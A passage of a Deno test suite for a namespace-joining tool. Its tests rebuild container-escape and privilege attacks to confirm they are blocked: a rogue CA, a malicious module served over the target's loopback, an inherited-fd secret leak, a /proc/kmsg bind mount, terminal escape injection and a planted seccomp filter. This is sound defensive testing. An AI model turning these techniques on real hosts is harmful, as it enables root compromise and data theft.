      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 26: a CA file root names but the host lacks is never loaded from a target's files for root's TLS",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Deno loads its TLS root store once for the whole process, on the first TLS use of any
    // thread, and a failed load is not remembered: with `--cert FILE` (or DENO_CERT) naming a
    // file the host lacks, the first TLS use in fn (mnt joined) read the target's file at that
    // path, and root's own fetch trusted the target's CA from then on. A local user's
    // `unshare -Urm` process holds the CA at that path on a tmpfs of its own; a loopback
    // server has a certificate that CA signed. fn's own fetch of it must not trust that CA
    // either (the evaluator's process loads its store on the host, or refuses), nor root's.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-ca26-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/theirs`);
    await Deno.chmod(`${dir}/theirs`, 0o777);
    const ssl = (args: string[]) => must("openssl", args);
    await ssl(
      ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=evil-ca"]
        .concat(["-keyout", `${dir}/ca.key`, "-out", `${dir}/ca.crt`]),
    );
    await ssl(["req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=localhost"]
      .concat(["-keyout", `${dir}/srv.key`, "-out", `${dir}/srv.csr`]));
    await Deno.writeTextFile(`${dir}/ext`, "subjectAltName=DNS:localhost,IP:127.0.0.1\n");
    await ssl(
      ["x509", "-req", "-in", `${dir}/srv.csr`, "-CA", `${dir}/ca.crt`, "-CAkey"]
        .concat([`${dir}/ca.key`, "-CAcreateserial", "-days", "2", "-extfile", `${dir}/ext`])
        .concat(["-out", `${dir}/srv.crt`]),
    );
    await Deno.chmod(`${dir}/ca.crt`, 0o644);
    const server = Deno.serve({
      hostname: "127.0.0.1",
      port: 0,
      cert: await Deno.readTextFile(`${dir}/srv.crt`),
      key: await Deno.readTextFile(`${dir}/srv.key`),
      onListen: () => {},
    }, () => new Response("secret-ok"));
    const caPath = `${dir}/theirs/ca.crt`; // the target's alone: the host's directory is empty
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const get = (url: string) =>
  fetch(url).then((r) => r.text(), (e) => "refused: " + (e as Error).message);
const url = "https://localhost:${server.addr.port}/";
const inside = await inNamespaces(Number(Deno.args[0]), get, {
  namespaces: ["mnt"], timeout: 30_000, arg: url,
}).catch((e) => (e as Error).message);
const own = await get(url);
console.log(JSON.stringify({ inside, own }));
Deno.exit(0);
`,
    );
    try {
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-m"],
        user: { uid: user.uid, gid: user.gid },
        setup: `mount -t tmpfs x ${dir}/theirs && cp ${dir}/ca.crt ${caPath}`,
      });
      assert(!(await Deno.stat(caPath).then(() => true, () => false)), "the host has no CA file");
      for (const how of ["--cert", "DENO_CERT"]) {
        const out = await runPiped(
          Deno.execPath(),
          {
            args: ["run", "-A", "--quiet", "--no-lock"]
              .concat(how === "--cert" ? ["--cert", caPath] : [])
              .concat([`${dir}/victim.ts`, String(target.pid)]),
            env: how === "DENO_CERT" ? { DENO_CERT: caPath } : {},
          },
          undefined,
          60_000,
        );
        assertEquals(out.code, 0, `${how}: ${out.stderr}`);
        const seen = JSON.parse(out.stdout) as { inside: string; own: string };
        // Without the host's load: fn's fetch said "secret-ok", and (evaluator in root's own
        // process) root's own fetch after it too.
        assertMatch(seen.own, /^refused: /, how);
        assertMatch(
          seen.inside,
          /^(refused: |Cannot start fn in the target's mount namespace: the TLS root store )/,
          how,
        );
      }
    } finally {
      await server.shutdown();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 26: sealed process attacked

/** Source of a function, for a victim script: root's evaluator processes (ppid and cmdline). */
const _EVALUATORS_SRC = `const evaluators = () => [...Deno.readDirSync("/proc")].filter((e) => {
  try {
    const stat = Deno.readTextFileSync(\`/proc/\${e.name}/stat\`);
    return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]) === Deno.pid &&
      Deno.readTextFileSync(\`/proc/\${e.name}/cmdline\`).includes("_ns_process");
  } catch {
    return false;
  }
}).map((e) => Number(e.name));`;

Deno.test({
  name:
    "stop 26: a kept mnt evaluator never keeps root's script alive, and its process dies with the script however it ends",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-seal2-" });
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
${_EVALUATORS_SRC}
const [pid, mode] = [Number(Deno.args[0]), Deno.args[1]];
if (mode === "spin") {
  inNamespaces(pid, () => { while (true) { /* a synchronous loop */ } }, { namespaces: ["mnt"] });
  setInterval(() => console.log(JSON.stringify({ evaluators: evaluators() })), 200);
} else {
  await inNamespaces(pid, () => "kept", { namespaces: ["mnt"] });
  const kept = evaluators();
  // The loop ended on its own: a kept evaluator killed by the idle timer first (5 s) would be
  // gone here.
  globalThis.addEventListener("unload", () => {
    console.log(JSON.stringify({ kept, atUnload: kept.filter((p) => {
      try { return !/^[ZX]/.test(Deno.readTextFileSync(\`/proc/\${p}/stat\`).split(") ")[1]); }
      catch { return false; }
    }) }));
  });
}
`,
    );
    try {
      await using target = await makeTarget({ flags: ["-m"] });
      await t.step("a script that ends normally", async () => {
        const out = await runPiped(
          Deno.execPath(),
          {
            args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)],
          },
          undefined,
          60_000,
        );
        assertEquals(out.code, 0, out.stderr);
        const { kept, atUnload } = JSON.parse(out.stdout);
        assertEquals(kept.length, 1, out.stdout);
        // Without the fix the call pipe kept the script's loop alive until the idle timer
        // killed the evaluator: none was alive at unload.
        assertEquals(atUnload, kept, "the script waited for its idle evaluator to be killed");
        await waitFor("the kept evaluator's exit", () => gone(kept[0]), 10_000);
      });
      await t.step("a script SIGKILLed while fn spins synchronously", async () => {
        const victim = new Deno.Command(Deno.execPath(), {
          args: [
            "run",
            "-A",
            "--quiet",
            "--no-lock",
            `${dir}/victim.ts`,
            String(target.pid),
            "spin",
          ],
          stdin: "null",
          stdout: "piped",
          stderr: "inherit",
        }).spawn();
        const reader = victim.stdout.pipeThrough(new TextDecoderStream()).getReader();
        let seen: number[] = [];
        let buf = "";
        while (seen.length === 0) {
          const { value, done } = await reader.read();
          if (done) break;
          buf += value;
          for (const line of buf.split("\n").slice(0, -1)) seen = JSON.parse(line).evaluators;
          buf = buf.slice(buf.lastIndexOf("\n") + 1);
        }
        assertEquals(seen.length, 1);
        // Spinning for sure: its evaluator's thread runs fn.
        await new Promise((r) => setTimeout(r, 1500));
        victim.kill("SIGKILL");
        await victim.status;
        await reader.cancel();
        await waitFor("the spinning evaluator's exit", () => gone(seen[0]), 10_000);
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "stop 26: a large result of a mnt fn is read back in memory linear in its size",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // fn's result is often a target's data (a log, a database dump). Joining the reply pipe's
    // chunks at every read copied the frame so far each time: a 64 MB result took 30 s and
    // 1.2 GB of root's memory (a 16 MB one 1.8 s), where the Worker took 0.1 s.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-seal2-" });
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const hwm = () => Number(/^VmHWM:\\s+(\\d+) kB$/m.exec(Deno.readTextFileSync("/proc/self/status"))![1]) >> 10;
await inNamespaces(Number(Deno.args[0]), () => 0, { namespaces: ["mnt"] });
const before = hwm();
const n = await inNamespaces(Number(Deno.args[0]), () => {
  const a = new Uint8Array(48 << 20);
  for (let i = 0; i < a.length; i++) a[i] = i % 251;
  return a;
}, { namespaces: ["mnt"], timeout: 50_000 }).then((r) => {
  const a = r as Uint8Array;
  for (let i = 0; i < a.length; i++) if (a[i] !== i % 251) return \`byte \${i} differs\`;
  return a.length;
}, (e) => e.name);
console.log(JSON.stringify({ n, grewMb: hwm() - before }));
Deno.exit(0);
`,
    );
    try {
      await using target = await makeTarget({ flags: ["-m"] });
      const out = await runPiped(
        Deno.execPath(),
        {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)],
        },
        undefined,
        90_000,
      );
      assertEquals(out.code, 0, out.stderr);
      const { n, grewMb } = JSON.parse(out.stdout);
      assertEquals(n, 48 << 20);
      // The frame, its chunks and the value: about 3× the result; quadratic joining was 1 GB.
      assert(grewMb < 300, `root's process grew by ${grewMb} MB reading a 48 MB result`);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 26: the mnt evaluator's process never fetches its code through a target's network (nsjoin imported from a URL)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // nsjoin imported from a remote URL (a registry, a mirror): the evaluator's process ran
    // `deno run URL/src/_ns_process.ts`, born in the namespaces the caller's thread joined —
    // net among them — so it fetched its modules on the target's network. Over http:, a
    // target serving its own src/_ns_process.ts on that address of its own loopback had it
    // run as uid 0 with every permission, on the host.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-seal2-" });
    const servers: Deno.ChildProcess[] = [];
    try {
      await Deno.mkdir(`${dir}/evil/src`, { recursive: true });
      await Deno.writeTextFile(
        `${dir}/evil/src/_ns_process.ts`,
        `Deno.writeTextFileSync(${JSON.stringify(`${dir}/PWNED`)}, \`uid=\${Deno.uid()}\`);\n`,
      );
      await Deno.writeTextFile(
        `${dir}/serve.ts`,
        `const [port, root] = [Number(Deno.args[0]), Deno.args[1]];
Deno.serve({ hostname: "127.0.0.1", port, onListen: () => console.log("ready") }, async (req) => {
  const path = new URL(req.url).pathname;
  if (root.endsWith("/evil")) Deno.writeTextFileSync(root + "/asked", path + "\\n", { append: true });
  try {
    return new Response(await Deno.readFile(root + path), {
      headers: { "content-type": path.endsWith(".ts") ? "application/typescript" : "application/javascript" },
    });
  } catch {
    return new Response("", { status: 404 });
  }
});
`,
      );
      const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      const port = (l.addr as Deno.NetAddr).port;
      l.close();
      const serve = (cmd: string, args: string[]) => {
        const child = new Deno.Command(cmd, { args, stdin: "null", stdout: "piped" }).spawn();
        servers.push(child);
        return child;
      };
      const ready = async (child: Deno.ChildProcess) => {
        const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
        const { value } = await reader.read();
        assertEquals(value?.trim(), "ready");
        reader.releaseLock();
      };
      const deno = Deno.execPath();
      const serveArgs = (
        root: string,
      ) => ["run", "-A", "--quiet", "--no-lock", `${dir}/serve.ts`, String(port), root];
      // The host serves nsjoin's files; the target serves its own on the same address of its
      // own loopback.
      await ready(serve(deno, serveArgs(ROOT.replace(/\/$/, ""))));
      const target = serve("unshare", [
        "-n",
        "-m",
        "sh",
        "-c",
        `ip link set lo up && exec ${deno} ${serveArgs(`${dir}/evil`).join(" ")}`,
      ]);
      await ready(target);
      await Deno.writeTextFile(
        `${dir}/victim.ts`,
        `const { inNamespaces } = await import("http://127.0.0.1:${port}/mod.ts");
console.log(await inNamespaces(${target.pid}, () => "inside", { namespaces: ["net", "mnt"], timeout: 30_000 })
  .catch((e: Error) => e.message));
Deno.exit(0);
`,
      );
      const out = await runPiped(
        deno,
        {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`],
          // A cache of its own: nothing of nsjoin's code fetched before.
          env: { DENO_DIR: `${dir}/deno-dir` },
        },
        undefined,
        90_000,
      );
      let marker = "";
      try {
        marker = await Deno.readTextFile(`${dir}/PWNED`);
      } catch {
        // Never written: the target's code did not run.
      }
      assertEquals(marker, "", "the target's src/_ns_process.ts ran on the host");
      assert(!existsNow(`${dir}/evil/asked`), "the evaluator's process asked the target for code");
      // And mnt works from a remote copy (node:worker_threads takes no http: URL: it never did).
      assertEquals(out.stdout, "inside\n", out.stderr);
    } finally {
      for (const s of servers) {
        try {
          s.kill("SIGKILL");
        } catch {
          // Already gone.
        }
        await s.status;
        await s.stdout.cancel().catch(() => {});
      }
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 26: an abort while inNamespaces prepares a mnt call (a module bundled on the host) stops it: fn never runs",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // The abort listener was added only after the call's awaits (the host's `deno bundle` of a
    // module URL, the first call's imports, the evaluator's code cached): an abort in that gap
    // was never heard, and fn ran in the target after the caller had given up on it.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-seal2-" });
    try {
      await Deno.writeTextFile(
        `${dir}/job.ts`,
        `export default () => { Deno.writeTextFileSync("/mnt/ran", "fn ran"); return "ran"; };\n`,
      );
      await using target = await makeTarget({ flags: ["-m"], setup: "mount -t tmpfs x /mnt" });
      const controller = new AbortController();
      const call = inNamespaces(target.pid, new URL(`file://${dir}/job.ts`), {
        namespaces: ["mnt"],
        signal: controller.signal,
        reuse: false,
      });
      // Aborted during the bundle (a `deno` process of tens of ms), before any evaluator.
      setTimeout(() => controller.abort(new Error("given up")), 0);
      const outcome = await call.then((v) => `resolved ${v}`, (e) => (e as Error).message);
      assertEquals(outcome, "given up");
      // A call that ran anyway would have written it by now (it resolved ~1 s later).
      await new Promise((r) => setTimeout(r, 2500));
      assert(!existsNow(`/proc/${target.pid}/root/mnt/ran`), "fn ran after the abort");
    } finally {
      await closeNamespaceWorkers();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 26: fds root's process inherited without close-on-exec never reach the mnt evaluator's process",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Deno's spawn passes on every fd without close-on-exec: root's script started with a
    // shell's `5<secret` (or a service manager's socket) gave it to the evaluator's process,
    // where fn runs in the target's mount namespace; in a target that shares the host's /proc
    // (a local user's `unshare -Urm`), /proc/self/fd/5 — a path of fn's, or a target's symlink
    // fn follows — read root's file.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-seal2-" });
    try {
      await Deno.writeTextFile(`${dir}/secret`, "ROOT-SECRET\n", { mode: 0o600 });
      await Deno.writeTextFile(
        `${dir}/victim.ts`,
        `import { inNamespaces } from "${ROOT}mod.ts";
console.log(await inNamespaces(Number(Deno.args[0]), () => {
  try {
    return Deno.readTextFileSync("/mnt/link");
  } catch (e) {
    return (e as Error).name;
  }
}, { namespaces: ["mnt"] }));
Deno.exit(0);
`,
      );
      await using target = await makeTarget({
        flags: ["-m"],
        setup: "mount -t tmpfs x /mnt && ln -s /proc/self/fd/5 /mnt/link",
      });
      const out = await runPiped(
        "sh",
        {
          args: [
            "-c",
            `exec "$0" run -A --quiet --no-lock ${dir}/victim.ts ${target.pid} 5<${dir}/secret`,
            Deno.execPath(),
          ],
        },
        undefined,
        60_000,
      );
      assertEquals(out.code, 0, out.stderr);
      // Without the fix: ROOT-SECRET.
      assertEquals(out.stdout.trim(), "NotFound");
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 27: a Worker's remote module and the scoped join

Deno.test({
  name:
    "stop 27: a remote module URL for inNamespaces is fetched on the host, never through the target's network",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // The Worker of a call without mnt is born in the target's network namespace and loaded
    // a module URL itself: an uncached http: module came from the target's own loopback, and
    // its code ran in root's process with every permission. Inside a scoped join, the
    // `deno bundle` of a mnt call was born in the joined network and fetched it there too.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop27-" });
    const servers: Deno.ChildProcess[] = [];
    try {
      for (const side of ["host", "target"]) {
        await Deno.mkdir(`${dir}/${side}`);
        await Deno.writeTextFile(`${dir}/${side}/fn.js`, `export default () => "${side}";\n`);
      }
      await Deno.writeTextFile(
        `${dir}/serve.ts`,
        `const [port, root] = [Number(Deno.args[0]), Deno.args[1]];
Deno.serve({ hostname: "127.0.0.1", port, onListen: () => console.log("ready") }, async (req) => {
  const path = new URL(req.url).pathname;
  Deno.writeTextFileSync(root + "/asked", path + "\\n", { append: true });
  try {
    return new Response(await Deno.readFile(root + path), {
      headers: { "content-type": "application/javascript" },
    });
  } catch {
    return new Response("", { status: 404 });
  }
});
`,
      );
      const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      const port = (l.addr as Deno.NetAddr).port;
      l.close();
      const deno = Deno.execPath();
      const serveArgs = (
        root: string,
      ) => ["run", "-A", "--quiet", "--no-lock", `${dir}/serve.ts`, String(port), root];
      const serve = async (cmd: string, args: string[]) => {
        const child = new Deno.Command(cmd, { args, stdin: "null", stdout: "piped" }).spawn();
        servers.push(child);
        const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
        assertEquals((await reader.read()).value?.trim(), "ready");
        reader.releaseLock();
        return child;
      };
      await serve(deno, serveArgs(`${dir}/host`));
      const target = await serve("unshare", [
        "-n",
        "-m",
        "sh",
        "-c",
        `ip link set lo up && exec ${deno} ${serveArgs(`${dir}/target`).join(" ")}`,
      ]);
      const url = `http://127.0.0.1:${port}/fn.js`;
      const victim = async (name: string, body: string) => {
        await Deno.writeTextFile(
          `${dir}/${name}.ts`,
          `import { inNamespaces, scopedJoin } from "${ROOT}mod.ts";
const url = new URL("${url}");
const pid = ${target.pid};
${body}
Deno.exit(0);
`,
        );
        // A cache of its own for each run: nothing fetched before.
        const out = await runPiped(
          deno,
          {
            args: ["run", "-A", "--quiet", "--no-lock", `${dir}/${name}.ts`],
            env: { DENO_DIR: `${dir}/deno-dir-${name}` },
          },
          undefined,
          90_000,
        );
        return out.stdout.trim() || out.stderr.trim();
      };
      await t.step("a Worker in the target's network loads the host's module", async () => {
        const got = await victim(
          "worker",
          `console.log(await inNamespaces(pid, url, { namespaces: ["net"], timeout: 30_000 })
  .catch((e: Error) => e.message));`,
        );
        // Without the host's cache: "target".
        assertEquals(got, "host");
        assert(!existsNow(`${dir}/target/asked`), "the target was asked for the module");
      });
      await t.step("a mnt call's module is bundled on the host", async () => {
        const got = await victim(
          "bundle",
          `console.log(await inNamespaces(pid, url, { namespaces: ["net", "mnt"], timeout: 30_000 })
  .catch((e: Error) => e.message));`,
        );
        // Before --allow-import was passed on: deno bundle refused the URL.
        assertEquals(got, "host");
        assert(!existsNow(`${dir}/target/asked`), "the target was asked for the module");
      });
      await t.step("also when called inside a scoped join of the target's network", async () => {
        // The entry point awaits before anything starts: by then the join is gone.
        const got = await victim(
          "scoped",
          `let call: Promise<unknown>;
{
  using _join = scopedJoin(pid, ["net"]);
  call = inNamespaces(pid, url, { namespaces: ["net", "mnt"], timeout: 30_000 });
}
console.log(await call.catch((e: Error) => e.message));`,
        );
        assertEquals(got, "host");
        assert(!existsNow(`${dir}/target/asked`), "the target was asked for the module");
      });
    } finally {
      for (const s of servers) {
        try {
          s.kill("SIGKILL");
        } catch {
          // Already gone.
        }
        await s.status;
        await s.stdout.cancel().catch(() => {});
      }
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 27: sec27a

Deno.test({
  name:
    "stop 27: inspect reads a target's /proc/meminfo only as the kernel's meminfo or a file its root may read, never the host's kernel log",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // `inspect` shows the memory a target's `free` would see, from its own /proc/meminfo
    // (lxcfs binds a FUSE file there), read through /proc/PID/root with root's every
    // capability. A local user's `unshare -Urm` (a rootless container's root alike) may bind
    // any host file it can look up over its /proc/meminfo: /proc/kmsg (mode 0400, CAP_SYSLOG
    // checked at open) had root's inspect take the host's pending kernel log off it, what
    // klogd or rsyslog's imklog would have logged (stop 23's finding, by another door).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec27a-" });
    await Deno.chmod(dir, 0o755);
    const freeOf = async (pid: number) => {
      const r = await cliBounded(["inspect", "--json", String(pid)], 30_000);
      assertEquals([r.code, r.killed], [0, false], r.stderr);
      return JSON.parse(r.stdout).target.memory.free as { total: number; source: string };
    };
    const bound = (file: string) =>
      makeTarget({
        flags: ["-U", "--map-root-user", "-m", "--propagation", "private"],
        user: { uid: user.uid, gid: user.gid },
        setup: `mount --bind ${file} /proc/meminfo`,
      });
    try {
      await t.step("its /proc/meminfo bound to /proc/kmsg", async () => {
        await using target = await bound("/proc/kmsg");
        await kmsgPending();
        const marker = `nsjoin-sec27a-kmsg-${crypto.randomUUID().slice(0, 8)}`;
        await Deno.writeTextFile("/dev/kmsg", `<6>${marker}\n`);
        const free = await freeOf(target.pid);
        // Without the fix: the marker was read (and parsed as no memory), then EAGAIN.
        assert((await kmsgPending()).includes(marker), "the kernel log was consumed");
        assertEquals(free.source, "/proc/meminfo", "the caller's meminfo, as when refused");
      });
      await t.step(
        "another file of the kernel's interfaces (procfs, sysfs) is not taken",
        async () => {
          for (const file of ["/proc/cpuinfo", "/sys/kernel/profiling"]) {
            await using target = await bound(file);
            // Without the kernel-file check: read as the target's, every field 0.
            assertEquals((await freeOf(target.pid)).source, "/proc/meminfo", file);
          }
        },
      );
      await t.step("a host file only root may read stays unread", async () => {
        await Deno.writeTextFile(`${dir}/secret`, "MemTotal:       4242 kB\n", { mode: 0o600 });
        await using target = await bound(`${dir}/secret`);
        const free = await freeOf(target.pid);
        // Without reading as the namespace's root: total 4242 KiB from root's file.
        assertEquals(free.source, "/proc/meminfo");
        assert(free.total !== 4242 * 1024, "root's file was read");
      });
      await t.step(
        "its own file there (lxcfs's way) and its real meminfo are still read",
        async () => {
          await Deno.writeTextFile(`${dir}/own`, "MemTotal:       4096 kB\n");
          await Deno.chown(`${dir}/own`, user.uid, user.gid);
          await Deno.chmod(`${dir}/own`, 0o600);
          await using target = await bound(`${dir}/own`);
          const free = await freeOf(target.pid);
          assertEquals([free.source, free.total], [
            `/proc/${target.pid}/root/proc/meminfo`,
            4096 * 1024,
          ]);
          await using plain = await makeTarget({
            flags: ["-U", "--map-root-user", "-m"],
            user: { uid: user.uid, gid: user.gid },
          });
          const real = await freeOf(plain.pid);
          assertEquals(real.source, `/proc/${plain.pid}/root/proc/meminfo`);
          assert(real.total > 0);
        },
      );
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 27: cp never writes a target's tar stream to root's terminal, where its escape sequences would act",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // `cp TARGET:PATH -` writes a tar: the target's file names and contents as they are. On a
    // terminal (root's slip of `-` for `.`), a file of the target's holding escape sequences
    // reached it raw — a title set, the screen cleared, whatever the terminal acts on (docker
    // cp writes it there too; GNU tar refuses, "Refusing to write archive contents to
    // terminal"). Now exit 2, one line, nothing written. A pipe still gets the stream.
    const user = await testUser();
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m"],
      user: { uid: user.uid, gid: user.gid },
      setup: String.raw`mount -t tmpfs x /mnt && printf '\033]0;OWNED\007\033[2J' > /mnt/esc`,
    });
    const src = `${target.pid}:/mnt/esc`;
    // script(1) gives the command a pseudo-terminal for stdout and copies what it wrote.
    const tty = await runPiped(
      "script",
      {
        args: [
          "-qec",
          `exec "${Deno.execPath()}" run -A --quiet --no-lock ${CLI} cp ${src} - 2>/dev/null`,
          "/dev/null",
        ],
      },
      undefined,
      30_000,
    );
    // Without the refusal: exit 0 and the tar, "\x1b]0;OWNED\x07" in it, on the terminal.
    assert(
      !tty.stdout.includes("\x1b]0;OWNED"),
      "the target's escape sequence reached the terminal",
    );
    assertEquals(tty.code, 2, tty.stdout);
    const piped = await cliBounded(["cp", src, "-"], 30_000);
    assertEquals([piped.code, piped.killed], [0, false], piped.stderr);
    assert(piped.stdout.includes("\x1b]0;OWNED"), "a pipe gets the stream as it is");
  },
});

Deno.test({
  name:
    "stop 27: exec -n net of a local user's namespaces never puts root's program under that user's seccomp filter",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // An unprivileged user may install a seccomp filter without no_new_privs inside a user
    // namespace of their own (they hold CAP_SYS_ADMIN there): the kernel lets such a filter
    // govern only tasks with at most that namespace's privileges. `exec -n net PID` runs
    // root's host program in the user's network namespace but in our user namespace, with
    // root's credentials and every capability — and copied the target's filter onto it,
    // without no_new_privs: the user chose which syscalls of root's program fail (here
    // uname(2), EPERM), as a filter on a set-uid program would.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec27a-f-" });
    await Deno.chmod(dir, 0o755);
    try {
      await Deno.writeTextFile(
        `${dir}/filt.c`,
        String.raw`#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sock_filter f[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_uname, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog p = {sizeof f / sizeof *f, f};
  if (syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p) != 0) return 1;
  execvp(argv[1], argv + 1);
  return 1;
}
`,
      );
      await sh("gcc", ["-static", "-O2", "-o", `${dir}/filt`, `${dir}/filt.c`]);
      await Deno.chmod(`${dir}/filt`, 0o755);
      // The user's shell installs the filter (no no_new_privs) and execs the sleep that is the target.
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-n"],
        user: { uid: user.uid, gid: user.gid },
        setup: `exec ${dir}/filt sh -c 'echo ready:$$; exec sleep 100000'`,
      });
      const status = await Deno.readTextFile(`/proc/${target.pid}/status`);
      assertMatch(status, /^NoNewPrivs:\s+0$/m);
      assertMatch(status, /^Seccomp_filters:\s+1$/m);
      const probe =
        'uname >/dev/null && echo uname-ok; grep -E "^(Uid|Seccomp_filters):" /proc/self/status';
      await t.step("exec -n net: root's program runs without the user's filter", async () => {
        const r = await cliBounded(
          ["exec", "-n", "net", String(target.pid), "sh", "-c", probe],
          30_000,
        );
        assertEquals([r.code, r.killed], [0, false], r.stderr);
        // Without the fix: "uname: cannot get system name: Operation not permitted", 1 filter.
        assertMatch(r.stdout, /^uname-ok$/m);
        assertMatch(r.stdout, /^Uid:\s+0\s+0\s+0\s+0$/m);
        assertMatch(r.stdout, /^Seccomp_filters:\s+0$/m);
      });
      await t.step(
        "exec of all its namespaces (its user namespace too) keeps the filter",
        async () => {
          // There the program is the user's, with their namespace's privileges: the filter is theirs to set.
          const r = await cliBounded(["exec", String(target.pid), "sh", "-c", probe], 30_000);
          assertEquals([r.code, r.killed], [0, false], r.stderr);
          assert(!r.stdout.includes("uname-ok"), r.stdout);
          assertMatch(r.stdout, /^Seccomp_filters:\s+1$/m);
        },
      );
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 27: a host program exec runs keeps root's umask, never a container's or a local user's",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    // `exec` gave every program the target's umask (Umask: of /proc/PID/status), which its
    // own process sets: a container's init that ran umask(0) (or a local user's process, for
    // `exec PID` of it) had every file root's host program made world-writable — with
    // `exec -n net` (the host's mount namespace) or `exec PID` of a process in ours, in
    // root's directories. docker exec gives 0022 whatever its init's umask.
    await dockerImage();
    const name = `nsjoin-sec27a-um-${STATE_RUN}`;
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec27a-um-" });
    const made = async (args: string[], file: string, seen = file) => {
      const r = await cliBounded([...args, "sh", "-c", `umask; touch ${file}`], 30_000);
      assertEquals([r.code, r.killed], [0, false], r.stderr);
      return { umask: r.stdout.trim(), mode: (await Deno.stat(seen)).mode! & 0o777 };
    };
    try {
      await must("docker", [
        "run",
        "-d",
        "--name",
        name,
        "-v",
        `${dir}:/shared`,
        IMAGE,
        "sh",
        "-c",
        "umask 000; exec tail -f /dev/null",
      ]);
      await t.step("exec -n net of a container whose init's umask is 000", async () => {
        // Without the fix: 0000 and a file of root's with mode 0666.
        assertEquals(await made(["exec", "-n", "net", `docker:${name}`], `${dir}/net`), {
          umask: "0022",
          mode: 0o644,
        });
      });
      await t.step("exec of a local user's process in our own namespaces", async () => {
        const user = await testUser();
        const victim = new Deno.Command("setpriv", {
          args: [
            `--reuid=${user.uid}`,
            `--regid=${user.gid}`,
            "--clear-groups",
            "sh",
            "-c",
            "umask 000; exec sleep 600",
          ],
          stdin: "null",
          stdout: "null",
          stderr: "null",
        }).spawn();
        try {
          await new Promise((r) => setTimeout(r, 300));
          assertEquals(await made(["exec", String(victim.pid)], `${dir}/user`), {
            umask: "0022",
            mode: 0o644,
          });
        } finally {
          victim.kill("SIGKILL");
          await victim.status;
        }
      });
      await t.step("inside the container's own files its umask still holds", async () => {
        assertEquals(await made(["exec", `docker:${name}`], "/shared/inside", `${dir}/inside`), {
          umask: "0000",
          mode: 0o666,
        });
      });
    } finally {
      await run("docker", ["rm", "-f", name]).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 27: conf27

Deno.test({
  name:
    "stop 27: exec -n net of a local user's namespaces keeps root's resource limits, oom_score_adj and cgroups, never the user's",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // What `exec` copies from its target besides the seccomp filter is the target's to set
    // too: a local user's `unshare -Urn` process may lower its hard limits, raise its own
